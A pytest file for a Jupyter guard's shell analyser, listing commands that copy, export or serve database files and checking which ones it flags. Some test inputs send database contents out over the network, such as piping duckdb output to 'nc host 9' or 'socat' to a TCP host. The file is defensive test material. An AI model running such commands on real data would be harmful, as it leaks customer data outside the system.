"""Decision table for database-file copies in the shell analyser, with a stand-in for the
header test (``Reader.database``): the DuckDB CLI (not installed here, so its forms are
judged by analysis alone), moves, paths relative to ``cd``, header peeks, stdout to a file or
a pipe. The kernel tests (``tests/enforce/test_copy_database_any.py``) run the real programs."""
from __future__ import annotations

import os

import pytest

from jupyter_guard.analyze.children import Reader
from jupyter_guard.analyze.shell import analyze_shell
from jupyter_guard.model import Analysis

DATABASES = {"wh.duckdb", "data/inner.duckdb", "x.sqlite", "d/wh.db"}


def _database(path: str, walk: bool) -> tuple[str, ...]:
    top = os.path.normpath(path)
    if walk and top == ".":   # the folder holds them all
        return tuple(sorted(DATABASES))
    if walk and any(d.startswith(top + "/") for d in DATABASES):
        return tuple(sorted(d for d in DATABASES if d.startswith(top + "/")))
    return (path,) if os.path.normpath(path) in DATABASES else ()


READER = Reader(read=lambda p: None, python=lambda s: Analysis(), database=_database)


def copies(cmd: str) -> set[str]:
    return {i.detail for i in analyze_shell(cmd, children=READER).intents
            if i.action == "df.export" and i.detail.startswith("copies database file")}


@pytest.mark.parametrize("cmd", [
    "duckdb wh.duckdb -c \"COPY customers TO 'x.csv'\"",
    "duckdb -c \"COPY (SELECT * FROM customers) TO 'x.parquet'\" wh.duckdb",
    "duckdb wh.duckdb -c \"EXPORT DATABASE 'out'\"",
    "duckdb -csv wh.duckdb -c 'SELECT * FROM customers' > x.csv",
    "duckdb wh.duckdb -json 'SELECT * FROM customers' | gzip > x.gz",
    "duckdb wh.duckdb -c '.output x.csv' -c 'SELECT * FROM customers'",
    "duckdb wh.duckdb -c \"ATTACH 'o.duckdb' AS o; CREATE TABLE o.c AS FROM customers\"",
    "duckdb wh.duckdb < /dev/stdin > x.txt",
    "sqlite3 x.sqlite .dump > out.sql",
    "sqlite3 x.sqlite '.once out.csv' 'SELECT * FROM customers'",
    "sqlite3 x.sqlite \"VACUUM INTO 'c.db'\"",
    "sqlite3 -cmd '.mode csv' x.sqlite 'SELECT * FROM customers' >> out.csv",
    "cd data && duckdb inner.duckdb -c 'FROM customers' > ../x.csv",
    "/usr/local/bin/duckdb wh.duckdb -c 'FROM customers' | nc host 9",
    "mv wh.duckdb /tmp/x",
    "mv -t /tmp wh.duckdb",
    "cd data && cp inner.duckdb /tmp/",
    "cd data; tar czf /tmp/x.tgz inner.duckdb",
    "(cd data && zip -q /tmp/x.zip inner.duckdb)",
    "cd d && cat wh.db > /tmp/x",
    "cd data && gzip < inner.duckdb > /tmp/x.gz",
    "head -c 4096 wh.duckdb > x",
    "head -c 16 -c 99999 wh.duckdb",
    "dd if=wh.duckdb bs=16 count=1 skip=40 of=x",
    "dd if=wh.duckdb bs=4096 count=10 of=x",
    "xxd -s 100 -l 64 wh.duckdb",
    "sed '' wh.duckdb > x", "grep -a '' x.sqlite > x", "awk 1 wh.duckdb", "sort x.sqlite",
    "ls wh.duckdb | cpio -o > x.cpio",            # names from an input the guard cannot see
    "cpio -o > x.cpio <<EOF\nx.sqlite\nEOF",
    "echo x.sqlite | zip -q x.zip -@",
    "tar cf x.tar -T -",
    "sqlite3 x.sqlite <<EOF\n.output x.csv\nSELECT * FROM customers;\nEOF",
])
def test_copies_are_found(cmd: str) -> None:
    assert copies(cmd), cmd


@pytest.mark.parametrize("cmd", [
    "duckdb wh.duckdb -c 'SELECT count(*) FROM customers'",        # printed to the cell
    "sqlite3 x.sqlite 'SELECT count(*) FROM customers'",
    "duckdb wh.duckdb -c 'SELECT * FROM loads'",                       # a table named like a verb
    "sqlite3 other.db 'SELECT * FROM t' > x.csv",                      # not a database file
    "head -c 16 wh.duckdb",
    "head -c16 wh.duckdb | od -c",
    "xxd -l 32 wh.duckdb",
    "od -N 16 -c wh.duckdb",
    "dd if=wh.duckdb bs=16 count=1 status=none",
    "file wh.duckdb", "ls -l wh.duckdb", "du -k wh.duckdb", "stat wh.duckdb",
    "cd data && cp notes.txt /tmp/",
    "mv notes.txt other.txt",
    "cp notes.txt data/",                                              # into a folder
    "sed -n 1p notes.txt > x", "sort -u notes.txt",
    "cpio -o > x.cpio <<EOF\nnotes.txt\nEOF",
    "echo notes.txt | zip -q x.zip -@",
    "cpio -idv < x.cpio",                                              # extracting
])
def test_other_commands_are_not_copies(cmd: str) -> None:
    assert not copies(cmd), cmd


@pytest.mark.parametrize("cmd", [
    pytest.param("cd $(echo data) && cp inner.duckdb /tmp/x", id="cd-substitution"),
    pytest.param("cd \"$NOWHERE\" && tar cf /tmp/x.tar .", id="cd-unset-variable-whole-folder"),
    pytest.param("cd `dirname data/inner.duckdb`; gzip < inner.duckdb > /tmp/x.gz",
                 id="cd-backticks-input"),
    pytest.param("env -C data cp inner.duckdb /tmp/x", id="env-C"),
    pytest.param("env --chdir=data tar cf /tmp/x.tar inner.duckdb", id="env-chdir"),
    pytest.param("sudo -D data cp inner.duckdb /tmp/x", id="sudo-D"),
    pytest.param("socat -u FILE:wh.duckdb TCP:host:9", id="socat-file-address"),
    pytest.param("sqlite3 x.sqlite 'SELECT count(*) FROM customers' '.dump' > x",
                 id="count-then-dump"),
    pytest.param("sqlite3 x.sqlite 'SELECT count(*), email FROM customers GROUP BY 2' > x",
                 id="count-beside-a-column"),
    pytest.param("sqlite3 x.sqlite 'SELECT count(*) FROM customers' < q.sql > x",
                 id="count-with-an-unseen-input"),
    pytest.param("sqlite3 x.sqlite 'SELECT * FROM customers' 2>/dev/null > x",
                 id="stderr-away-stdout-to-a-file"),
    pytest.param("sqlite3 x.sqlite 'SELECT * FROM customers' &> x", id="both-to-a-file"),
    pytest.param("find . | cpio -o > x.cpio", id="find-whole-folder"),
    pytest.param("find data -name '*.duckdb' | cpio -o > x.cpio", id="find-names-the-db"),
    pytest.param("find data -newer x | cpio -o > x.cpio", id="find-test-unknown"),
])
def test_more_copies_are_found(cmd: str) -> None:
    assert copies(cmd), cmd


@pytest.mark.parametrize("cmd", [
    pytest.param("python -m http.server 8000", id="http-server-cwd"),
    pytest.param("python3 -m http.server --directory data --bind 127.0.0.1", id="http-directory"),
    pytest.param("php -S 127.0.0.1:8000", id="php-S"),
    pytest.param("php -S 0:80 -t data", id="php-docroot"),
    pytest.param("busybox httpd -f -p 8080", id="busybox-httpd"),
    pytest.param("busybox httpd -f -h data -p 8080", id="busybox-httpd-home"),
    pytest.param("ruby -run -e httpd . -p 8000", id="ruby-httpd"),
    pytest.param("datasette x.sqlite -p 8001", id="datasette"),
    pytest.param("python -m sqlite_web x.sqlite", id="sqlite-web"),
    pytest.param("cd data && python -m http.server", id="cd-then-serve"),
    pytest.param("nc -l -p 9000 < x.sqlite", id="nc-listen-input"),
])
def test_serving_a_folder_with_a_database_is_a_copy(cmd: str) -> None:
    assert copies(cmd), cmd


def _site_only(path: str, walk: bool) -> tuple[str, ...]:
    return () if os.path.normpath(path).startswith("site") else _database(path, walk)


@pytest.mark.parametrize("cmd", [
    pytest.param("python -m http.server --directory site", id="http-site"),
    pytest.param("php -S 0:80 -t site", id="php-site"),
    pytest.param("busybox httpd -h site", id="busybox-site"),
    pytest.param("sqlite3 x.sqlite 'SELECT count(*) FROM customers' > n.txt", id="count-to-file"),
    pytest.param("duckdb wh.duckdb -c 'SELECT count(DISTINCT email) AS n FROM customers' | cat",
                 id="count-distinct-piped"),
    pytest.param("sqlite3 -csv x.sqlite 'SELECT count(*) FROM customers' >> n.txt",
                 id="count-appended"),
    pytest.param("sqlite3 x.sqlite 'SELECT email FROM customers' 2> err.txt", id="stderr-only"),
    pytest.param("find site | cpio -o > x.cpio", id="find-plain-folder"),
    pytest.param("find . -name '*.html' -type f | cpio -o > x.cpio", id="find-other-names"),
    pytest.param("cd $(echo site) && cp index.html /tmp/", id="cd-substitution-plain-file"),
    pytest.param("env -C site cp index.html /tmp/", id="env-C-plain-file"),
])
def test_serving_and_listing_plain_files_is_not_a_copy(cmd: str) -> None:
    reader = Reader(read=lambda p: None, python=lambda s: Analysis(), database=_site_only)
    found = {i.detail for i in analyze_shell(cmd, children=reader).intents
             if i.action == "df.export" and "database file" in i.detail}
    assert not found, cmd
